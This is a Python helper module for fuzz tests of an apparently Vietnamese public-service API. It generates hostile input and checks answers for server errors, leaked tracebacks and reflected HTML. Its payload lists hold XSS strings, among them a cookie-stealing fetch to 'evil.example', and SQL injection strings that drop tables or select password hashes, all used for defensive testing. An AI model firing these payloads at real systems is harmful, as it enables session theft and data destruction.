"""Shared pieces of the fuzz tests (tests/unit/test_fuzz_*.py, tests/e2e/test_fuzz_*.py): hypothesis strategies
for hostile citizen input, the checks every answer must pass, and the per-target case counter that writes
reports/fuzz/summary.json (the number of cases tried is part of the report).
"""

from __future__ import annotations

import json
import re
import time
import unicodedata
from collections import Counter
from pathlib import Path

import requests
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

ROOT = Path(__file__).resolve().parents[2]
SUMMARY = ROOT / "reports" / "fuzz" / "summary.json"

# Reproducible in CI: the same examples every run, no wall-clock deadline on a busy 2-core machine.
FUZZ_SETTINGS = dict(derandomize=True, deadline=None, database=None, print_blob=True,
                     suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                            HealthCheck.function_scoped_fixture])


def fuzz_settings(max_examples: int) -> settings:
    """Hypothesis settings for one fuzz test."""
    return settings(max_examples=max_examples, **FUZZ_SETTINGS)


# --- hostile text ------------------------------------------------------------------------------------------

HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(document.cookie)>",
    "javascript:alert(1)",
    "[bấm vào đây](javascript:alert(1))",
    "</script><script>fetch('//evil.example/'+document.cookie)</script>",
    "<iframe src=\"https://evil.example\"></iframe> làm căn cước",
    "{{7*7}} ${7*7} <%= 7*7 %>",
]
SQL_PAYLOADS = [
    "' OR 1=1 --",
    "H07.99-251120-0012' OR '1'='1",
    "'; DROP TABLE applications; --",
    "H07.99-251120-0012\"; DELETE FROM feedback; --",
    "1 UNION SELECT password_hash FROM console_users --",
    "%' OR name LIKE '%",
    "H07.99-251120-0012 0912345678'--",
]
VIETNAMESE = [
    "làm giấy khai sinh cần giấy tờ gì",
    "lam can cuoc mat bao lau",
    "Tra cứu hồ sơ H07.99-251120-0012",
    "đăng ký thường trú ở đâu vậy ạ???",
    "cho hỏi lệ phí cấp lại căn cước",
]
NFD = [unicodedata.normalize("NFD", s) for s in VIETNAMESE]
EMOJI = ["😀", "🙏🏻", "👨‍👩‍👧‍👦", "🇻🇳", "❤️", "🤬🤬🤬"]
MIXED = ["làm ЦССD căn cước 身份证 بطاقة", "đăng ký khai sinh для ребёнка 出生登记",
         "\uff28\uff10\uff17\uff0e\uff19\uff19-251120-0012",  # full-width application code
         "\ufdfa \u202e đảo ngược \u202d", "\u210c\U0001d522\U0001d529\U0001d529\U0001d52c căn cước"]
CONTROL = ["\x00", "\x01\x02\x03", "\x1b[31mđỏ\x1b[0m", "a\u200bb\u200c\u200d", "\ufeff xin chào", "\x7f\x85\x9f",
           "\r\n\r\n", "\u2028\u2029", "\ud800", "nửa \udfff cặp"]
WHITESPACE = ["", " ", "\n\t  \r\n", "\u00a0\u3000\u2003", " \u200b "]

_piece = st.one_of(
    st.sampled_from(VIETNAMESE + NFD + EMOJI + MIXED + CONTROL + WHITESPACE + HTML_PAYLOADS + SQL_PAYLOADS),
    st.text(max_size=40),  # any code points except surrogates
    st.text(st.characters(codec="utf-8", categories=["Cc", "Cf", "Zs", "Mn", "So"]), max_size=20),
)


@st.composite
def _joined(draw) -> str:
    return "".join(draw(st.lists(_piece, min_size=1, max_size=4)))


def long_text(size: int) -> st.SearchStrategy[str]:
    """A message of about ``size`` characters (repeated Vietnamese, emoji or one character)."""
    return st.sampled_from(["a", "Đăng ký khai sinh ", "😀", "<script>", "0912345678 "]).map(
        lambda unit: (unit * (size // len(unit) + 1))[:size])


def hostile_text(long_sizes: tuple[int, ...] = (2001, 100_000)) -> st.SearchStrategy[str]:
    """Citizen text at its worst: empty, whitespace, control characters, lone surrogates, NFD, emoji, mixed
    scripts, HTML/JS, SQL-looking codes, arbitrary Unicode, and very long messages."""
    longs = [long_text(n) for n in long_sizes]
    return st.one_of(_joined(), *longs)


def json_values(max_leaves: int = 20) -> st.SearchStrategy:
    """Any JSON value (for fields that should be strings: numbers, lists, objects, null, booleans...)."""
    scalars = st.one_of(st.none(), st.booleans(), st.integers(min_value=-(2**70), max_value=2**70),
                        st.floats(allow_nan=False, allow_infinity=False), hostile_text(long_sizes=(3000,)))
    return st.recursive(scalars, lambda inner: st.one_of(st.lists(inner, max_size=4),
                                                         st.dictionaries(st.text(max_size=8), inner, max_size=4)),
                        max_leaves=max_leaves)


def nested(depth: int, kind: str = "list") -> str:
    """A JSON text nested ``depth`` levels deep (stdlib json gives RecursionError past ~1000)."""
    return ("[" * depth + "]" * depth) if kind == "list" else ('{"a":' * depth + "1" + "}" * depth)


CONTENT_TYPES = ["application/json", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data",
                 "text/html", "application/xml", "application/json; charset=latin-1", None]
RAW_BODIES = st.one_of(
    st.binary(max_size=200),  # mostly invalid UTF-8 / not JSON
    st.sampled_from([b"", b"null", b"[]", b'"text"', b"42", b"{", b'{"message":', b"\xff\xfe\xfd",
                     b'{"message": "\xc3\x28 invalid utf-8"}', b'{"sender": "x", "message": "\xed\xa0\x80"}',
                     b"message=xin+ch%C3%A0o&sender=a", b"<xml><message>hi</message></xml>",
                     b'{"message": "NaN", "sender": NaN}', b'{"message": 1e999}']),
    st.sampled_from([nested(5000).encode(), nested(5000, "dict").encode(), nested(900).encode(),
                     ('{"message": ' + nested(3000) + "}").encode(),
                     json.dumps({"message": "x" * 1_000_000}).encode(),
                     json.dumps({"message": "a", "metadata": {str(i): "v" * 100 for i in range(5000)}}).encode()]),
)


# --- checks on every answer -------------------------------------------------------------------------------

# Python exception text or a traceback in a body means internals reached the user.
_LEAK_RE = re.compile(
    r"Traceback \(most recent call last\)|File \"[^\"]+\", line \d+|"
    r"\b(?:KeyError|TypeError|ValueError|AttributeError|RecursionError|IndexError|UnicodeDecodeError|"
    r"UnicodeEncodeError|JSONDecodeError|OperationalError|IntegrityError|ProgrammingError|RuntimeError|"
    r"sqlite3\.\w+|psycopg\w*\.|sqlalchemy\.\w+)\b"
)


def leaked_internals(body: str) -> str | None:
    """The piece of ``body`` that looks like a Python exception or traceback, or None."""
    match = _LEAK_RE.search(body or "")
    return match.group(0) if match else None


def check_answer(response, *, where: str, sent: str = "") -> None:
    """Every answer: no 5xx, no exception text; bodies that are not JSON never echo raw HTML from the input."""
    body = response.text
    assert response.status_code < 500, f"{where}: HTTP {response.status_code}: {body[:300]!r}"
    leak = leaked_internals(body)
    assert leak is None, f"{where}: exception text {leak!r} in the answer: {body[:300]!r}"
    content_type = response.headers.get("Content-Type", "")
    if "json" not in content_type and "<" in sent:
        for tag in re.findall(r"<[a-zA-Z/][^>]{0,40}>?", sent):
            assert tag not in body, f"{where}: input HTML {tag!r} reflected in a {content_type} answer"


class CaseCounter:
    """Counts requests per fuzz target and merges them into reports/fuzz/summary.json at the end."""

    def __init__(self) -> None:
        self.cases: Counter = Counter()
        self.statuses: dict[str, Counter] = {}
        self.started: dict[str, float] = {}
        self.seconds: Counter = Counter()

    def hit(self, target: str, status: int) -> None:
        """Record one request to ``target`` that answered ``status``."""
        self.cases[target] += 1
        self.statuses.setdefault(target, Counter())[str(status)] += 1

    def send(self, target: str, method: str, url: str, *, sent: str = "", where: str | None = None,
             json_answer: bool = False, http=requests, **kwargs) -> requests.Response:
        """One fuzz request: timed and counted under ``target``, then :func:`check_answer` (as ``where``, by default
        the target); ``json_answer`` also requires a JSON answer. ``http`` may be a ``requests.Session``."""
        with self.timed(target):
            response = http.request(method, url, **kwargs)
        self.hit(target, response.status_code)
        check_answer(response, where=where or target, sent=sent)
        if json_answer:
            assert response.headers.get("Content-Type", "").startswith("application/json"), (
                where or target, response.status_code, response.headers)
        return response

    def timed(self, target: str):
        """Context manager adding the elapsed time to ``target``."""
        counter = self

        class _Timer:
            def __enter__(self):
                self.t0 = time.perf_counter()

            def __exit__(self, *exc):
                counter.seconds[target] += time.perf_counter() - self.t0
                return False

        return _Timer()

    def write(self, extra: dict | None = None) -> dict:
        """Merge this run's counts into the summary file and print them (visible with ``pytest -s``)."""
        SUMMARY.parent.mkdir(parents=True, exist_ok=True)
        try:
            data = json.loads(SUMMARY.read_text(encoding="utf-8"))
        except (OSError, ValueError):
            data = {}
        targets = data.setdefault("targets", {})
        for target, count in sorted(self.cases.items()):
            targets[target] = {"cases": count, "seconds": round(self.seconds[target], 1),
                               "statuses": dict(sorted(self.statuses[target].items())),
                               "at": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())}
            print(f"fuzz {target}: {count} cases in {self.seconds[target]:.1f} s, statuses "
                  f"{dict(sorted(self.statuses[target].items()))}")
        if extra:
            data.setdefault("extra", {}).update(extra)
        data["total_cases"] = sum(t["cases"] for t in targets.values())
        SUMMARY.write_text(json.dumps(data, ensure_ascii=False, indent=2) + "\n", encoding="utf-8")
        return data
